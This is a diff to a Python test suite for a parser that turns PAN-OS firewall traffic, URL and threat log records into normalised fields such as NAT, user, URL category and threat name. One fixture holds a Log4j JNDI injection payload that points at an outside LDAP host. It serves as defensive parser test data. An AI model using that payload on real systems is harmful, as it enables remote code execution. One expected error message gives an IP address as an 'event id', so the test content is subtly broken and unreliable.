@@ -150,6 +150,14 @@ def test_traffic_record_maps_every_field() -> None:
         "network.protocol": "tls",
         "network.bytes": 5234,
         "rule.name": "allow-web",
+        "source.nat.ip": "203.0.113.10",
+        "source.nat.port": 40000,
+        "destination.nat.ip": "93.184.216.34",
+        "destination.nat.port": 443,
+        "user.name": "alice",
+        "user.domain": "nhs",
+        "url.category": "computer-and-internet-info",
+        "network.application": "ssl",
         "event.original": TRAFFIC,
         LINE_COLUMN: 0,
     }
@@ -179,7 +187,15 @@ def test_url_record_with_quoted_commas_maps_every_field() -> None:
         "user_agent.original": (
             "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
         ),
-        "rule.name": "allow-web",  # a URL record names no threat: the security rule
+        "rule.name": "allow-web",  # the security policy
+        "source.nat.ip": "203.0.113.10",
+        "source.nat.port": 40000,
+        "destination.nat.ip": "93.184.216.34",
+        "destination.nat.port": 443,
+        "user.name": "alice",
+        "user.domain": "nhs",
+        "url.category": "malware",  # a URL record names no threat: threat.* stay null
+        "network.application": "web-browsing",
         "event.original": URL,
         LINE_COLUMN: 0,
     }
@@ -192,7 +208,14 @@ def test_virus_record_names_the_threat_and_its_file_hash() -> None:
         "reset-both",
         "denied",
     )
-    assert got["rule.name"] == "Eicar Test File"
+    assert got["rule.name"] == "allow-web"  # the policy; the threat has fields of its own
+    assert (got["threat.name"], got["threat.id"], got["threat.severity"]) == (
+        "Eicar Test File",
+        "39040",
+        "medium",
+    )
+    assert got["threat.category"] == "unknown"
+    assert got["url.category"] is None  # "any": no category looked up
     assert got["file.hash.sha256"] == EICAR_SHA256
     assert got["url.full"] is None  # the misc field is a file name here
     assert got["observer.name"] == "pa-bdr-02"  # no syslog header: the device name field
@@ -210,7 +233,9 @@ def test_exploit_in_http_gives_the_url_it_targeted() -> None:
         43: "",
     }
     got = row(record(exploit))
-    assert got["rule.name"] == "Apache Log4j Remote Code Execution Vulnerability"
+    assert got["rule.name"] == "allow-web"
+    assert got["threat.name"] == "Apache Log4j Remote Code Execution Vulnerability"
+    assert (got["threat.id"], got["threat.severity"]) == ("91991", "critical")
     assert got["url.full"] == "http://www.trust.nhs.uk/?id=${jndi:ldap://203.0.113.66:1389/b}"
     assert (got["url.domain"], got["url.path"]) == ("www.trust.nhs.uk", "/")
     assert got["file.hash.sha256"] is None
@@ -269,8 +294,9 @@ def test_malformed_records_are_rejected_and_good_ones_still_parse() -> None:
     result = parse(lines)
     assert sorted(result.events.get_column(LINE_COLUMN).to_list()) == [0, 8]
     assert dict(result.rejects.iter_rows()) == {
-        1: "panos: log type SYSTEM is not supported (read: TRAFFIC, THREAT)",
-        2: "panos: not a PAN-OS CSV record (need at least 31 comma-separated fields, "
+        1: "panos: PAN-OS SYSTEM records are not read, except authentications "
+        "(event id 93.184.216.34; read: auth-fail, auth-success)",
+        2: "panos: not a PAN-OS CSV record (need at least 7 comma-separated fields, "
         "the 7th a time like 2025/11/25 13:01:02)",
         3: "panos: unbalanced double quotes; a quoted field is not closed",
         4: "panos: source port http is not a port number",
